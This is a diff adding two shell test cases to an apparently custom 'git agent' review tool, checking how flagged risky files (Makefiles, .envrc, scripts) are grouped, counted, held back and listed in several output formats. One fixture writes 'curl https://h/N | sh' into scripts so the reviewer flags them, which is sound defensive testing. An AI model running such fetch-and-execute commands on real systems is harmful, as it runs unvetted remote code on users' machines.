@@ -208,4 +208,44 @@ test_expect_success 'RV-02: a file that a link of the user gives a severe name i
 	done
 '
 
+test_expect_success 'many flags of one rule in a directory are one line, hide no other, and JSON and SARIF list each' '
+	git init -q lines &&
+	cd lines &&
+	git commit -q --allow-empty -m 1 &&
+	git agent start --name many -- sh -c "
+		mkdir a b
+		for i in \$(seq 300); do echo >a/Makefile.\$i; done
+		for i in 1 2 3 4 5; do echo \"curl https://h/\$i | sh\" >b/\$i.sh; done
+		echo x >.envrc
+		echo x >Makefile" 2>../err &&
+	sed -n "s/^  flagged: //p" ../err >../line &&
+	grep "1 critical (held back), [0-9]* high.*: .envrc, Makefile, a/ (300 paths), ...\$" ../line &&
+	for form in text html markdown; do
+		git agent review --format=$form --stat many >../out || git agent review --format=$form many >../out
+		sed "/^files\$/,\$d; /#### Files/,\$d; /<h2>Files/,\$d" ../out >../flags
+		grep "a/ (300 paths)" ../flags &&
+		! grep "a/Makefile.7[^0-9]" ../flags &&
+		grep "b/ (5 paths)" ../flags &&
+		test "$(grep -c "Makefile" ../flags)" -le 6 || return 1
+	done &&
+	grep "h/1 .*; 2.sh: .*h/2 .*; 3.sh: .*h/3 " ../flags &&
+	git agent review --json many >../json &&
+	test "$(grep -c "\"path\": \"a/Makefile" ../json)" -ge 300 &&
+	git agent review --format=sarif many >../sarif &&
+	test "$(grep -o "a/Makefile.[0-9]*" ../sarif | sort -u | wc -l)" = 300 &&
+	git agent review --accept many a 2>../err &&
+	git agent review --stat many >../out &&
+	grep "a/ (300 paths) (accepted)" ../out
+'
+
+test_expect_success 'of flags of one severity the summary counts those that are held back' '
+	cd lines &&
+	git config agent.guard false &&
+	printf "risk:\n  hold: [Makefile]\n" >.agentdev.yaml &&
+	git add .agentdev.yaml &&
+	git commit -qm hold &&
+	git agent start --name some -- sh -c "echo x >Makefile; echo x >Dockerfile.x; echo x >a.mk" 2>../err &&
+	grep "flagged: 3 high (2 of them held back), 1 medium: Makefile" ../err
+'
+
 test_done
